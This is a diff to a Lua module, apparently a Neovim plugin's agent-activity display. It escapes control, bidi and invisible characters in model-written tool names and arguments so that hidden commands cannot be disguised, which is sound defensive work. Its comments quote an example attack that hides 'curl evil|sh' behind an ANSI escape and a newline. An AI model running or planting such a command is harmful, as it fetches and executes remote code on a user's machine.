@@ -10,15 +10,52 @@ local M = {}
 
 local SUMMARY_CHARS = 80 -- server/activity.py SUMMARY_CHARS
 local FIRST_LINE_CHARS = 200
+local NEWLINE_MARK = '⏎'
 
 local function trim(text)
   return (text:gsub('^%s+', ''):gsub('%s+$', ''))
 end
 
---- Collapse whitespace to single spaces and cut to `max` characters with an ellipsis.
+-- Model-written text made safe to show, by the rules of the server's tooling/display.py:
+-- ESC -> \e, CR -> \r, a newline -> ⏎ (unless kept), other C0/DEL/C1 controls -> \xNN,
+-- bidi and invisible formatting characters -> \uXXXX; tabs stay. An escape sequence in a
+-- command must not hide part of it (`git fetch #<ESC>[8m<newline>curl evil|sh`). Escaping
+-- twice changes nothing. The text is UTF-8: C1 and the \u ones are two or three bytes.
+local NAMED = { ['\27'] = '\\e', ['\r'] = '\\r', ['\n'] = NEWLINE_MARK }
+
+local function hex(byte)
+  return string.format('\\x%02x', byte:byte())
+end
+
+function M.escape_control(text, keep_newlines)
+  local controls = keep_newlines and '[%z\1-\8\11-\31\127]' or '[%z\1-\8\10-\31\127]'
+  text = text:gsub(controls, function(char)
+    return NAMED[char] or hex(char)
+  end)
+  text = text:gsub('\194([\128-\159])', hex) -- U+0080-U+009F
+  text = text:gsub('\216\156', '\\u061c')
+  text = text:gsub('\226\128([\139-\143\170-\174])', function(byte) -- U+200B-F, U+202A-E
+    return string.format('\\u20%02x', byte:byte() - 0x80)
+  end)
+  text = text:gsub('\226\129([\160-\164\166-\169])', function(byte) -- U+2060-4, U+2066-9
+    return string.format('\\u20%02x', byte:byte() - 0x40)
+  end)
+  return (text:gsub('\239\187\191', '\\ufeff'))
+end
+
+--- One line, escaped: line breaks as " ⏎ " (so `git fetch #` then `curl ... | sh` on the
+--- next line does not read as one comment), other whitespace runs as one space, cut to
+--- `max` characters with an ellipsis (server/activity.py _one_line).
 function M.one_line(text, max)
   max = max or SUMMARY_CHARS
-  local line = trim(text:gsub('%s+', ' '))
+  local parts = {}
+  for _, part in ipairs(vim.split(text, '\n', { plain = true })) do
+    part = trim(M.escape_control(part):gsub('%s+', ' '))
+    if part ~= '' then
+      table.insert(parts, part)
+    end
+  end
+  local line = table.concat(parts, ' ' .. NEWLINE_MARK .. ' ')
   if vim.fn.strchars(line) <= max then
     return line
   end
@@ -58,13 +95,14 @@ local function first_line(output)
     return ''
   end
   local line = trim(output):match('^[^\r\n]*') or ''
-  return vim.fn.strcharpart(line, 0, FIRST_LINE_CHARS)
+  return vim.fn.strcharpart(M.escape_control(line), 0, FIRST_LINE_CHARS)
 end
 
 --- One trace line for an agent/toolActivity notification.
 function M.activity_line(params, now)
   local stamp = os.date('%H:%M:%S', now)
-  local name = type(params.name) == 'string' and params.name or '?'
+  -- The name is the model's too: it may call a tool that does not exist.
+  local name = type(params.name) == 'string' and M.escape_control(params.name) or '?'
   local summary = M.summarize(params.arguments)
   if params.status == 'started' then
     return string.format('%s → %s %s', stamp, name, summary)
